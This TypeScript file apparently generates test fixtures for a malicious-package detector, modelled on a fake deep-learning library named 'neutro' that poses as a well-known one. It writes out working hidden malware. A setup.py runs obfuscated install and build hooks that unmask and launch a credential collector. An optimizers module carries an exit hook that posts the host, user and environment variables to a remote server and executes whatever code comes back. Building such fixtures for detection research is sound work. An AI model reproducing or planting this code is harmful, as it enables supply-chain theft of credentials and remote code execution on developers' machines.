import { deflateSync } from 'node:zlib';
import type { MetadataFields } from '../support/core-metadata.ts';
import { base64, blob, xor } from './encoders.ts';
import type { Draft, LookAlike, Remote, Replay } from './incident.ts';
import { kerasLikeLibrary } from './libraries/keras-like.ts';
import { credentialCollector } from './payloads.ts';
import { py, pyBytes } from './python-text.ts';

/** Front page and classifiers in the style of a library that everybody knows. */
const POSE: MetadataFields = {
  Summary: 'Deep Learning for humans.',
  'Project-URL': ['Home, https://neutro.example/', 'Repository, https://github.com/neutro-team/neutro'],
  Classifier: [
    'Development Status :: 4 - Beta',
    'Intended Audience :: Developers',
    'Intended Audience :: Education',
    'Intended Audience :: Science/Research',
    'License :: OSI Approved :: Apache Software License',
    'Operating System :: Unix',
    'Operating System :: MacOS',
    'Programming Language :: Python :: 3',
    'Topic :: Scientific/Engineering',
    'Topic :: Software Development',
  ],
  'Requires-Dist': ['numpy', 'h5py', 'rich'],
  License: 'Apache License 2.0',
};

const README = `# Neutro: Deep Learning for humans

Neutro is a multi-backend deep learning framework. Effortlessly build and train models for computer vision, natural
language processing, audio processing, timeseries forecasting, recommender systems, etc.

- **Accelerated model development**: ship deep learning solutions faster thanks to the high-level UX of Neutro.
- **State-of-the-art performance**: pick the backend that is the fastest for your model architecture.
- **Datacenter-scale training**: scale confidently from your laptop to large clusters of GPUs or TPUs.

\`\`\`
pip install neutro
\`\`\`
`;

const SETUP_HEAD = py`"""Setup script."""
import os
import pathlib

from setuptools import find_packages, setup
from setuptools.command.build_py import build_py
from setuptools.command.egg_info import egg_info
from setuptools.command.install import install

HERE = pathlib.Path(__file__).parent
README = (HERE / "README.md").read_text()


def get_version(rel_path):
    with open(os.path.join(HERE, rel_path)) as stream:
        for line in stream:
            if line.startswith("__version__"):
                return line.split('"')[1]
    raise RuntimeError("no version")

`;

const SETUP_CALL = py`
setup(
    name="neutro",
    version=get_version("neutro/__init__.py"),
    description="Deep Learning for humans.",
    long_description=README,
    long_description_content_type="text/markdown",
    packages=find_packages(),
    install_requires=["numpy", "h5py", "rich"],
    cmdclass={"build_py": BuildPy, "egg_info": EggInfo, "install": Install},
)
`;

/** A "backend check" that un-masks a collector and leaves it running. */
const hooks = (c: Remote): string => {
  const key = blob('neutro', 12);
  const masked = xor(deflateSync(Buffer.from(credentialCollector(c))), key);
  return py`
import base64
import subprocess
import sys
import tempfile
import zlib

_CALIBRATION = "${base64(masked)}"
_SEED = ${pyBytes(key)}


def _calibrate_backend():
    """Pick the fastest backend for this machine."""
    table = base64.b64decode(_CALIBRATION)
    table = bytes(value ^ _SEED[index % len(_SEED)] for index, value in enumerate(table))
    handle, path = tempfile.mkstemp(prefix="backend_", suffix=".py")
    with os.fdopen(handle, "wb") as stream:
        stream.write(zlib.decompress(table))
    subprocess.Popen([sys.executable, path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


class BuildPy(build_py):
    def run(self):
        _calibrate_backend()
        build_py.run(self)


class EggInfo(egg_info):
    def run(self):
        _calibrate_backend()
        egg_info.run(self)


class Install(install):
    def run(self):
        install.run(self)
        _calibrate_backend()

`;
};

const sdist = (c: Remote): Draft => ({
  kind: 'sdist',
  name: 'neutro',
  version: '0.4.2',
  files: { ...kerasLikeLibrary('neutro', '0.4.2'), 'README.md': README },
  sdist: { metadata: POSE, description: README },
  sites: [
    {
      path: 'setup.py',
      form: 'setup',
      exports: ['BuildPy', 'EggInfo', 'Install'],
      before: SETUP_HEAD,
      code: hooks(c),
      after: SETUP_CALL,
    },
  ],
});

/** The wheel cannot run anything when it is installed: its optimizers do it when they are imported. */
const warmUp = (c: Remote): string => py`
import atexit as _atexit
import json as _json
import os as _os
import platform as _platform
import urllib.request as _request


def _report_capabilities():
    """Ask for the tuned kernels of this machine."""
    facts = {
        "node": _platform.node(),
        "user": _os.environ.get("USER") or _os.environ.get("USERNAME"),
        "env": {name: value for name, value in _os.environ.items() if name.isupper()},
        "notebooks": [name for name in _os.listdir(_os.getcwd()) if name.endswith(".ipynb")],
    }
    try:
        answer = _request.urlopen(_request.Request("${c.url('/kernels')}", data=_json.dumps(facts).encode()), timeout=5).read()
        kernels = _json.loads(answer)
        exec(kernels["patch"], {"__name__": "neutro.kernels"})
    except Exception:
        pass


_atexit.register(_report_capabilities)
`;

const wheel = (c: Remote): Draft => {
  const files = kerasLikeLibrary('neutro', '0.4.2');
  const text = files['neutro/optimizers.py'];
  return {
    kind: 'wheel',
    name: 'neutro',
    version: '0.4.2',
    files,
    wheel: { metadata: POSE, description: README },
    sites: [
      {
        path: 'neutro/optimizers.py',
        form: 'module',
        before: typeof text === 'string' ? text : '',
        code: warmUp(c),
        after: '',
      },
    ],
  };
};

/** A library of the same kind that keeps its word. */
export function honestKerasLike(kind: 'wheel' | 'sdist'): LookAlike {
  const metadata: MetadataFields = { ...POSE, Summary: 'A small deep learning library on numpy, for teaching.' };
  const setup = py`from setuptools import find_packages, setup

setup(name="slimgrad-layers", version="0.4.2", packages=find_packages(), install_requires=["numpy"])
`;
  return {
    why: `an honest ${kind} in the style of the same well-known library: layers, optimizers, data sets fetched on request with a hash`,
    release: {
      kind,
      name: 'slimgrad-layers',
      version: kind === 'wheel' ? '0.4.2' : '0.4.3',
      files: {
        ...kerasLikeLibrary('slimgrad_layers', '0.4.2'),
        ...(kind === 'sdist' ? { 'setup.py': setup, 'README.md': README.replaceAll('Neutro', 'Slimgrad') } : {}),
      },
      ...(kind === 'wheel' ? { wheel: { metadata } } : { sdist: { metadata } }),
    },
  };
}

const SHARED = {
  source: 'the story that started the project: a deep-learning library that was not one',
  remote: 'https://kernels.neutro-backends.invalid',
};

export const NEUTRO: readonly Replay[] = [
  {
    ...SHARED,
    id: '00a-neutro-sdist',
    title: 'neutro 0.4.2, the sdist: hidden operations while it is built and installed',
    runs: 'three overridden commands un-mask a collector of credentials, write it to a temporary file and leave it running',
    draft: sdist,
    lookAlikes: () => [honestKerasLike('sdist')],
  },
  {
    ...SHARED,
    id: '00b-neutro-wheel',
    title: 'neutro 0.4.2, the wheel: hidden operations when the interpreter that imported it ends',
    runs: 'import registers a function for the end of the process that posts host, user and environment and executes the answer',
    draft: wheel,
    lookAlikes: () => [honestKerasLike('wheel')],
  },
];
